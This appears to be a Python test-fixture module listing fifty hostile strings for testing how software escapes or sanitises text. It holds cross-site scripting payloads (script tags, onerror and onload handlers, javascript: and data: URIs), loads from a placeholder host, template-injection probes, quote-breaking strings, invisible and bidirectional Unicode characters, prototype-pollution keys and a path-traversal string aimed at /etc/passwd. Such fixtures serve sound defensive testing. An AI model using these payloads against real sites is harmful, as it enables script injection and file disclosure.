"""Fifty kinds of text that try to be more than text."""

from __future__ import annotations

__all__ = ["HOSTILE", "IMAGE"]

SCRIPT = "window.hostile=(window.hostile||0)+1"
AWAY = "https://example.invalid"

IMAGE = f'"><img src="{AWAY}/x" onerror="{SCRIPT}">'

HOSTILE = [
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"<SCRIPT SRC={AWAY}/a.js></SCRIPT>",
    f"<img src=x onerror={SCRIPT}>",
    IMAGE,
    f"'><svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f'<a href="javascript:{SCRIPT}">look</a>',
    f'<object data="{AWAY}/o"></object>',
    f'<embed src="{AWAY}/e">',
    f'<link rel="stylesheet" href="{AWAY}/s.css">',
    f"<style>@import url({AWAY}/i.css);</style>",
    "<style>body{display:none}</style>",
    f"<body onload={SCRIPT}>",
    f'<base href="{AWAY}/">',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<form action="{AWAY}"><button>send</button></form>',
    f"<details open ontoggle={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<math><mi xlink:href='javascript:{SCRIPT}'>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<!--><script>{SCRIPT}</script>-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<textarea></textarea><script>{SCRIPT}</script>",
    f"<title></title><script>{SCRIPT}</script>",
    f"<select><option></select><script>{SCRIPT}</script>",
    "{{ 7 * 7 }} {% for x in range(9) %}x{% endfor %}",
    "${7*7} `${window.hostile=1}` #{7*7}",
    f"javascript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    "&lt;script&gt;&amp;lt;&#60;img src=x onerror=1&#62;",
    "\\u003cscript\\u003ewindow.hostile=1\\u003c/script\\u003e",
    f"\";{SCRIPT};//",
    f"';{SCRIPT};//",
    f"\\';{SCRIPT};//\\",
    "line\u2028separator\u2029and paragraph",
    "turned \u202eevil\u202c and \u2066isolated\u2069",
    "no width \u200b\u2060\ufeff here \u00ad",
    "escape \x1b[31mred\x1b[0m and bell \x07",
    "control \x01\x02\x08\x0b\x7f\x85",
    "tags \U000e0041\U000e0042 hidden",
    "__proto__",
    "constructor",
    "../../../../etc/passwd?#&%00%2e%2e",
    "a" * 4000 + " <b>long</b> " + "\u0301" * 300,
]  # fmt: skip
assert len(HOSTILE) == 50
